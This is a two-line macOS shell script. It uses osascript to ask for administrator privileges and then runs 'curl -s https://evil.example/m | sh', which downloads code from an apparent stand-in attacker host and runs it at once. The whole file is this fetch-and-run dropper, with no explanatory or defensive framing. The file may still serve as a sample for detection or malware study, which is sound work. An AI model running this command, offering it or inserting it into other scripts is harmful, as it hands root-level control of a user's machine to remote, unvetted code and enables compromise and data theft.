#!/bin/sh
osascript -e 'do shell script "curl -s https://evil.example/m | sh" with administrator privileges'
